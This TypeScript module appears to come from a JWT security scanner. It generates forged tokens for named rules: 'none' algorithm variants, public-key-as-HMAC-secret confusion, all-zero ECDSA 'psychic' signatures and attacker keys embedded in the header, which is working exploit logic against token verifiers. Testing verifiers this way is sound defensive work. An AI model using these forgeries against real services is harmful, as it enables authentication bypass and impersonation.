import { base64url } from '../encoding/base64url.ts'
import { concat, utf8 } from '../encoding/bytes.ts'
import { signatureAlgorithm } from '../jose/algorithms.ts'
import { publicKeySpellings } from '../jose/key-spellings.ts'
import { publicPart } from '../jose/keys.ts'
import { signBytes, signJwt } from '../jose/sign.ts'
import type { Attack, Forgery } from './attack.ts'
import { needsPublicKeys, needsSigningKey, signingKey, unsigned, withSecret } from './forge.ts'

const garbage = base64url(new Uint8Array(32).fill(0x5a))

export const noneInAnyCase: Attack = {
  ruleId: 'JWT-01',
  name: 'none-in-any-case',
  forge: async (material) =>
    ['none', 'None', 'NONE', 'nOnE', 'noNE', 'NonE', ' none', 'none '].flatMap((alg): readonly Forgery[] => {
      const input = unsigned(material, { ...material.valid.header, alg })
      return [
        { label: `alg "${alg}" with an empty signature`, jwt: `${input}.`, flaw: 'signature' },
        { label: `alg "${alg}" with a garbage signature`, jwt: `${input}.${garbage}`, flaw: 'signature' },
      ]
    }),
}

export const misspelledAlgorithm: Attack = {
  ruleId: 'JWT-02',
  name: 'misspelled-algorithm',
  forge: async (material) => {
    const jwk = signingKey(material)
    const alg = signatureAlgorithm(material.valid.header['alg'])?.alg
    if (jwk === undefined || alg === undefined) return needsSigningKey
    return Promise.all(
      [alg.toLowerCase(), `${alg} `, ` ${alg}`].map(async (spelling): Promise<Forgery> => {
        const input = unsigned(material, { ...material.valid.header, alg: spelling })
        return {
          label: `alg "${spelling}" for ${alg}`,
          jwt: `${input}.${base64url(await signBytes(alg, utf8(input), jwk))}`,
          flaw: 'signature',
        }
      }),
    )
  },
}

export const publicKeyAsSecret: Attack = {
  ruleId: 'JWT-03',
  name: 'public-key-as-secret',
  forge: async (material) => {
    const keys = material.publicKeys.filter((jwk) => jwk['kty'] !== 'oct')
    if (keys.length === 0) return needsPublicKeys
    const spellings = (await Promise.all(keys.slice(0, 3).map(publicKeySpellings))).flat()
    return Promise.all(
      spellings.map(async ({ name, bytes }): Promise<Forgery> => ({
        label: `HS256 with the public key as secret, spelled as ${name}`,
        jwt: await withSecret(material.valid.header, material.claims, bytes),
        flaw: 'signature',
      })),
    )
  },
}

const siblings: Readonly<Record<string, readonly string[]>> = {
  RS256: ['RS384', 'RS512', 'PS256'],
  RS384: ['RS256', 'RS512', 'PS384'],
  RS512: ['RS256', 'RS384', 'PS512'],
  PS256: ['RS256', 'PS384', 'PS512'],
  PS384: ['RS384', 'PS256', 'PS512'],
  PS512: ['RS512', 'PS256', 'PS384'],
  HS256: ['HS384', 'HS512'],
  HS384: ['HS256', 'HS512'],
  HS512: ['HS256', 'HS384'],
}

export const keyUnderSecondAlgorithm: Attack = {
  ruleId: 'JWT-04',
  name: 'key-under-second-algorithm',
  forge: async (material) => {
    const jwk = signingKey(material)
    if (jwk === undefined) return needsSigningKey
    const alg = signatureAlgorithm(material.valid.header['alg'])?.alg ?? ''
    return Promise.all(
      (siblings[alg] ?? []).map(async (other): Promise<Forgery> => ({
        label: `${other} by a key that is used with ${alg}`,
        jwt: await signJwt({ ...material.valid.header, alg: other }, material.claims, jwk),
        flaw: 'signature',
        severity: 'warning',
      })),
    )
  },
}

export const bothFamilies: Attack = {
  ruleId: 'JWT-05',
  name: 'both-families',
  forge: async (material) => {
    const symmetric = signatureAlgorithm(material.valid.header['alg'])?.kind === 'hmac'
    const other = material.signingKeys.find((jwk) => (jwk['kty'] === 'oct') !== symmetric)
    if (other === undefined) return { skipped: 'needs a second signing key of the other family' }
    const alg = other['kty'] === 'oct' ? 'HS256' : other['kty'] === 'RSA' ? 'RS256' : other['kty'] === 'EC' ? 'ES256' : 'EdDSA'
    const jwt = await signJwt({ ...material.valid.header, alg }, material.claims, other)
    return [
      {
        label: `${alg} beside ${String(signatureAlgorithm(material.valid.header['alg'])?.alg)}`,
        jwt,
        flaw: 'signature',
        severity: 'warning',
      },
    ]
  },
}

export const psychicSignature: Attack = {
  ruleId: 'JWT-11',
  name: 'psychic-signature',
  forge: async (material) => {
    const own = signatureAlgorithm(material.valid.header['alg'])
    const rows = own?.kind === 'ec' ? [own] : ['ES256', 'ES384', 'ES512'].flatMap((alg) => signatureAlgorithm(alg) ?? [])
    const zeros = rows.flatMap(({ alg, signatureBytes = 64 }): readonly Forgery[] => {
      const input = unsigned(material, { ...material.valid.header, alg })
      const one = new Uint8Array(signatureBytes)
      one[signatureBytes / 2 - 1] = 1
      return [
        { label: `an all-zero ${alg} signature`, jwt: `${input}.${base64url(new Uint8Array(signatureBytes))}`, flaw: 'signature' },
        { label: `an ${alg} signature with s = 0`, jwt: `${input}.${base64url(one)}`, flaw: 'signature' },
        // SEQUENCE { INTEGER 0, INTEGER 0 }
        {
          label: `an ${alg} signature of two zeros in DER`,
          jwt: `${input}.${base64url(Uint8Array.of(0x30, 6, 2, 1, 0, 2, 1, 0))}`,
          flaw: 'signature',
        },
      ]
    })
    if (own?.kind !== 'ec') return zeros
    const der = derSignature(material.valid.signature)
    return [
      ...zeros,
      { label: 'the genuine signature in DER', jwt: `${material.valid.signingInput}.${base64url(der)}`, flaw: 'form', severity: 'warning' },
    ]
  },
}

export const embeddedKey: Attack = {
  ruleId: 'JWT-29',
  name: 'embedded-key',
  forge: async (material) => {
    if (material.profile.selfKeyed) return { skipped: 'proofs of possession carry their key by design' }
    const jwk = publicPart(material.attackerKey)
    const { kid } = material.valid.header
    const forged = async (header: Parameters<typeof signJwt>[0], label: string): Promise<Forgery> => ({
      label,
      jwt: await signJwt({ ...material.valid.header, ...header, alg: 'ES256' }, material.claims, material.attackerKey),
      flaw: 'signature',
    })
    return [
      await forged({ jwk }, 'a signature by the key in its own jwk header'),
      await forged({ jwk: { ...jwk, ...(kid === undefined ? {} : { kid }) } }, 'a signature by an embedded key with the real kid'),
      await forged(
        { jwk: { ...jwk, alg: 'ES256', use: 'sig', kid: 'attacker' }, kid: 'attacker' },
        'a signature by an embedded key with its own kid',
      ),
    ]
  },
}

function derSignature(raw: Uint8Array): Uint8Array {
  const half = raw.length / 2
  const integer = (bytes: Uint8Array): Uint8Array => {
    const first = bytes.findIndex((byte) => byte !== 0)
    const tight = bytes.subarray(Math.max(first, 0))
    const body = (tight[0] ?? 0) > 127 ? concat(Uint8Array.of(0), tight) : tight
    return concat(Uint8Array.of(2, body.length), body)
  }
  const body = concat(integer(raw.subarray(0, half)), integer(raw.subarray(half)))
  return concat(Uint8Array.of(0x30, ...(body.length > 127 ? [0x81] : []), body.length), body)
}
